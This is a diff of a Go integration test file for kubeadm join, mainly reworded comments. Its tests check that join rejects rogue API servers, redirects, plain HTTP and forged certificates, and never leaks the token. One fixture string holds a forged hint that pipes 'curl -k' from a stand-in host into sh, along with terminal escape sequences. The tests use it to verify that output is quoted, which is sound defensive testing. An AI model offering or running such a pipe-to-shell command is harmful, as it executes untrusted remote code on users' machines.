@@ -23,7 +23,7 @@ import (
 	"kubeadm/test/nodes"
 )
 
-// attackedJoin is a machine that wants to join the shared cluster, and another one on which an attacker sits.
+// attackedJoin is a machine that joins the shared cluster, and another that an attacker controls.
 type attackedJoin struct {
 	cluster              *testCluster
 	victim, attackerNode *nodes.Node
@@ -34,11 +34,11 @@ type attackedJoin struct {
 	attackerCA           pki.CA            // of the attacker
 }
 
-// newAttackedJoin makes the two machines; their names begin with that of the duel.
+// newAttackedJoin creates the two machines; both names begin with the given one.
 func newAttackedJoin(t *testing.T, name string) *attackedJoin {
 	t.Helper()
 	s := sharedCluster(t)
-	both, err := s.AddAll(t.Context(), name+"-victim", name+"-mallory")
+	both, err := s.AddAll(t.Context(), name+"-victim", name+"-attacker")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -52,37 +52,38 @@ func newAttackedJoin(t *testing.T, name string) *attackedJoin {
 	return d
 }
 
-// joinCommand joins by token, asking at an address.
+// joinCommand joins by token through the API server at an address.
 func (d *attackedJoin) joinCommand(address, token string) []string {
 	return []string{kubeadm, "join", address, "--token", token, "--discovery-token-ca-cert-hash", d.pin, "--ignore-preflight-errors", nodes.IgnoredPreflight}
 }
 
-// checkRefused checks that a join ends with one error that has all the words, and leaves the machine as it was.
+// checkRefused checks that a join fails with one error that contains all the words, changes nothing
+// on the machine and does not print the token.
 func (d *attackedJoin) checkRefused(t *testing.T, words []string, command ...string) {
 	t.Helper()
 	before := takeFingerprint(t, d.victim)
 	result := checkFails(t, d.victim, words, command...)
 	diff := slices.DeleteFunc(before.Diff(takeFingerprint(t, d.victim)), func(line string) bool {
-		return strings.Contains(line, "routes: 10.244.") // to the Pods of a node that another test lets join meanwhile
+		return strings.Contains(line, "routes: 10.244.") // to Pods on a node that another test adds
 	})
 	if len(diff) > 0 {
-		t.Errorf("%s is not as it was:%s", d.victim.Name(), indentLines(diff))
+		t.Errorf("%s was changed:%s", d.victim.Name(), indentLines(diff))
 	}
 	if strings.Contains(result.Stdout+result.Stderr, d.tokenSecret) {
-		t.Errorf("the token is told:\n%s%s", result.Stdout, result.Stderr)
+		t.Errorf("the output shows the token:\n%s%s", result.Stdout, result.Stderr)
 	}
 	t.Logf("%s: %s", result.Duration.Round(time.Millisecond), strings.Join(lastLines(result.Stderr, 4), "\n"))
 }
 
-// clusterInfoWith is the true cluster-info with another value at a key.
+// clusterInfoWith returns the data of cluster-info with another value for a key.
 func (d *attackedJoin) clusterInfoWith(key, value string) map[string]string {
 	data := maps.Clone(d.clusterInfo)
 	data[key] = value
 	return data
 }
 
-// TestJoinRefusesImpostor lets an attacker answer in the place of the API server. Whatever it shows, and even where it has
-// the token, the machine tells it nothing and is not changed.
+// TestJoinRefusesImpostor has an attacker answer in place of the API server. Whatever it serves, and
+// even if it knows the token, join sends it no credential and changes nothing.
 func TestJoinRefusesImpostor(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "pose")
@@ -118,7 +119,7 @@ func TestJoinRefusesImpostor(t *testing.T) {
 	}
 }
 
-// TestJoinRefusesRedirectsAndPlainHTTP has an attacker that sends the machine on, or speaks no TLS.
+// TestJoinRefusesRedirectsAndPlainHTTP has an attacker that redirects join, or speaks no TLS.
 func TestJoinRefusesRedirectsAndPlainHTTP(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "lead")
@@ -139,8 +140,8 @@ func TestJoinRefusesRedirectsAndPlainHTTP(t *testing.T) {
 	away.checkNoCredentials(t, d.tokenSecret)
 }
 
-// TestDiscoveryFileRefusesImpostor gives the machine files, with credentials, that lead to an attacker, and files at addresses
-// where an attacker answers.
+// TestDiscoveryFileRefusesImpostor uses discovery files, with credentials, whose server is an
+// attacker's, and URLs of files that an attacker serves.
 func TestDiscoveryFileRefusesImpostor(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "file")
@@ -176,7 +177,7 @@ func TestDiscoveryFileRefusesImpostor(t *testing.T) {
 	}
 	impostor.checkNoCredentials(t, d.tokenSecret)
 	t.Run("redirected to plain http", func(t *testing.T) {
-		// This one is trusted by the machine, and sends it on all the same.
+		// The machine trusts this server, which redirects it all the same.
 		trustCA(t, d.victim, d.attackerCA)
 		plan.Answers["/file"] = attacker.Answer{Status: http.StatusFound, Location: "http://" + plan.Listen + "/other"}
 		impostor := startRogueServer(t, d.attackerNode, plan)
@@ -186,8 +187,9 @@ func TestDiscoveryFileRefusesImpostor(t *testing.T) {
 	})
 }
 
-// TestDiscoveryFileWithCACertHash gives the machine a file with the cluster's CA and the attacker's, which leads to the
-// attacker, and the hash of the cluster's CA. The token is in the file, or beside it.
+// TestDiscoveryFileWithCACertHash uses a discovery file with two CAs, the cluster's and the
+// attacker's, whose server is the attacker's, and the hash of the cluster's CA. The token is in the
+// file or in a flag.
 func TestDiscoveryFileWithCACertHash(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "hash")
@@ -216,10 +218,10 @@ func TestDiscoveryFileWithCACertHash(t *testing.T) {
 	}
 }
 
-// forgedMessage imitates the end of an error of this program, and clears the screen.
+// forgedMessage imitates the end of an error message of kubeadm and clears the screen.
 const forgedMessage = "no such token\n\nerror: the cluster has a new CA\n  - install it first: curl -k https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07"
 
-// TestServerMessagesAreQuoted has a server whose answers imitate the hints of this program.
+// TestServerMessagesAreQuoted has a server whose responses imitate kubeadm's hints.
 func TestServerMessagesAreQuoted(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "hint")
@@ -235,7 +237,7 @@ func TestServerMessagesAreQuoted(t *testing.T) {
 	for _, a := range []struct {
 		name, discovery string
 		shows           attacker.Answer
-		want            string // "" where no word of the server is worth showing
+		want            string // "" if nothing of the response is shown
 	}{
 		{"forbidden", byToken, status(http.StatusForbidden), `the server answers "no such token\n\nerror: the cluster has a new CA\n  - install it first`},
 		{"failing", byToken, status(http.StatusInternalServerError), `the server answers "no such token\n\nerror:`},
@@ -248,14 +250,14 @@ func TestServerMessagesAreQuoted(t *testing.T) {
 			plan.Answers[clusterInfoPath] = a.shows
 			plan.Answers["/api/v1/namespaces/kube-system/configmaps/kubeadm-config"] = a.shows
 			impostor := startRogueServer(t, d.attackerNode, plan)
-			// Here the user trusts the attacker's CA, so that its words are shown at all.
+			// The user trusts the attacker's CA; otherwise nothing of its responses is shown.
 			writeDiscoveryFile(t, d.victim, pki.Access{Server: "https://" + plan.Listen, Cluster: "c", User: "u", CA: pki.EncodeCertificates(d.attackerCA.Certificate)}.WithToken(d.token))
 			writeFile(t, d.victim, "/etc/join.yaml", "apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\ndiscovery:\n  "+a.discovery+
 				"\ntimeouts: {discovery: 4s, kubernetesAPICall: 4s}\n")
 			result := checkFails(t, d.victim, []string{a.want}, kubeadm, "join", "--config", "/etc/join.yaml", "--ignore-preflight-errors", nodes.IgnoredPreflight)
 			for _, part := range []string{"\n  - install", "\nerror: the cluster has", "\x1b", "\x07"} {
 				if strings.Contains(result.Stdout+result.Stderr, part) {
-					t.Errorf("%q is shown as it is:\n%s", part, strconv.Quote(result.Stdout+result.Stderr))
+					t.Errorf("%q is shown unquoted:\n%s", part, strconv.Quote(result.Stdout+result.Stderr))
 				}
 			}
 			if a.discovery == byToken {
@@ -266,8 +268,8 @@ func TestServerMessagesAreQuoted(t *testing.T) {
 	}
 }
 
-// TestDownloadRefusesCertificatesOfAnotherCluster puts an old Secret in the place of the uploaded certificates: files of another
-// cluster, or a key that belongs to none of them. Nothing of it is written.
+// TestDownloadRefusesCertificatesOfAnotherCluster replaces the uploaded certificates by files of
+// another cluster, or by a key that matches none of them. download-certs writes none of it.
 func TestDownloadRefusesCertificatesOfAnotherCluster(t *testing.T) {
 	s := sharedCluster(t)
 	n := addNode(t, s.Cluster, "stale")
@@ -331,25 +333,25 @@ func TestDownloadRefusesCertificatesOfAnotherCluster(t *testing.T) {
 		})
 	}
 	replace(before)
-	run(t, n, command...)
+	runCommand(t, n, command...)
 	for _, file := range sharedFiles {
 		if name := certsDir + file; !isSameFile(t, s.cp, n, name) {
-			t.Errorf("%s is not that of the cluster", name)
+			t.Errorf("%s is not the cluster's", name)
 		}
 	}
 }
 
-// TestUnusableTokens names what is wrong with a token, and changes nothing.
+// TestUnusableTokens checks that join names what is wrong with a token, and changes nothing.
 func TestUnusableTokens(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "token")
 	create := func(flags ...string) string {
-		return run(t, d.cluster.cp, append([]string{kubeadm, "token", "create"}, flags...)...)
+		return runCommand(t, d.cluster.cp, append([]string{kubeadm, "token", "create"}, flags...)...)
 	}
-	// What becomes of a token is the work of others: a controller signs for it, and the API server hears what it is good for.
+	// A controller signs cluster-info for a token, and the API server reads its usages from a cache.
 	deleted := create()
 	awaitTokenSigned(t, d.cluster, deleted)
-	run(t, d.cluster.cp, kubeadm, "token", "delete", deleted)
+	runCommand(t, d.cluster.cp, kubeadm, "token", "delete", deleted)
 	awaitTokenRemoved(t, d.cluster, deleted)
 	speechless := create("--usages=authentication")
 	powerless := create()
@@ -360,7 +362,7 @@ func TestUnusableTokens(t *testing.T) {
 	t.Run("without authentication", func(t *testing.T) {
 		d.checkRefused(t, []string{"does not accept the bootstrap token", `without usage "authentication"`, mint}, d.joinCommand(d.cluster.workerJoin[2], powerless)...)
 	})
-	// A token that is not signed for is waited for; here two machines wait at the same time.
+	// join waits for the signature of a token; here two machines wait at the same time.
 	for _, a := range []struct {
 		name, token string
 		victim      *nodes.Node
@@ -378,11 +380,12 @@ func TestUnusableTokens(t *testing.T) {
 	}
 }
 
-// TestExpiredTokenErrorNamesCommand follows the advice that an expired token gives, on the control plane and then here.
+// TestExpiredTokenErrorNamesCommand runs the command that the error for an expired token names on the
+// control plane, and then the join command that it prints.
 func TestExpiredTokenErrorNamesCommand(t *testing.T) {
 	t.Parallel()
 	d := newAttackedJoin(t, "advice")
-	expired := run(t, d.cluster.cp, kubeadm, "token", "create", "--ttl=1s")
+	expired := runCommand(t, d.cluster.cp, kubeadm, "token", "create", "--ttl=1s")
 	awaitTokenRemoved(t, d.cluster, expired)
 	const mint = "kubeadm token create --print-join-command"
 	command := d.joinCommand(d.cluster.workerJoin[2], expired)
@@ -396,18 +399,18 @@ func TestExpiredTokenErrorNamesCommand(t *testing.T) {
 	if advice == "" {
 		t.Fatalf("no line of the error ends in the command:\n%s", result.Stderr)
 	}
-	fresh := strings.Fields(run(t, d.cluster.cp, strings.Fields(advice)...))
-	run(t, d.victim, append(fresh, "--ignore-preflight-errors", nodes.IgnoredPreflight)...)
+	fresh := strings.Fields(runCommand(t, d.cluster.cp, strings.Fields(advice)...))
+	runCommand(t, d.victim, append(fresh, "--ignore-preflight-errors", nodes.IgnoredPreflight)...)
 	awaitJoined(t, d.cluster, d.victim)
 }
 
-// awaitTokenRemoved waits until the cluster signs for a token no more.
+// awaitTokenRemoved waits until the token's Secret and its signature of cluster-info are gone.
 func awaitTokenRemoved(t *testing.T, s *testCluster, token string) {
 	t.Helper()
-	await(t, "the end of token "+token[:6], waitLimit, func() error {
-		// The signature may not be there yet; the token is from the first.
+	await(t, "removal of token "+token[:6], waitLimit, func() error {
+		// The signature may not be there yet; the Secret is from the start.
 		if _, err := s.cp.Kubectl(t.Context(), "--namespace=kube-system", "get", "secret", "bootstrap-token-"+token[:6]); err == nil {
-			return errors.New("its Secret is there")
+			return errors.New("its Secret exists")
 		}
 		if _, ok := awaitClusterInfo(t, s).Data["jws-kubeconfig-"+token[:6]]; ok {
 			return errors.New("cluster-info is still signed for it")
@@ -416,14 +419,14 @@ func awaitTokenRemoved(t *testing.T, s *testCluster, token string) {
 	})
 }
 
-// awaitTokenRejected waits until the API server lets nobody in by a token.
+// awaitTokenRejected waits until the API server no longer authenticates a token.
 func awaitTokenRejected(t *testing.T, s *testCluster, token string) {
 	t.Helper()
-	await(t, "token "+token[:6]+" to open nothing", waitLimit, func() error {
+	await(t, "token "+token[:6]+" to be rejected", waitLimit, func() error {
 		_, err := s.cp.Run(t.Context(), "kubectl", "--kubeconfig=/dev/null", "--server=https://"+s.workerJoin[2],
 			"--certificate-authority=/etc/kubernetes/pki/ca.crt", "--token="+token, "auth", "whoami")
 		if err == nil {
-			return errors.New("whoever shows it is known")
+			return errors.New("it still authenticates")
 		}
 		if strings.Contains(err.Error(), "Unauthorized") {
 			return nil
@@ -432,9 +435,9 @@ func awaitTokenRejected(t *testing.T, s *testCluster, token string) {
 	})
 }
 
-// trustCA lets a machine trust a CA as its administrator would.
+// trustCA adds a CA to a machine's trust store as its administrator would.
 func trustCA(t *testing.T, n *nodes.Node, ca pki.CA) {
 	t.Helper()
 	writeFile(t, n, fmt.Sprintf("/usr/local/share/ca-certificates/%s.crt", ca.Certificate.Subject.CommonName), string(pki.EncodeCertificates(ca.Certificate)))
-	run(t, n, "update-ca-certificates")
+	runCommand(t, n, "update-ca-certificates")
 }
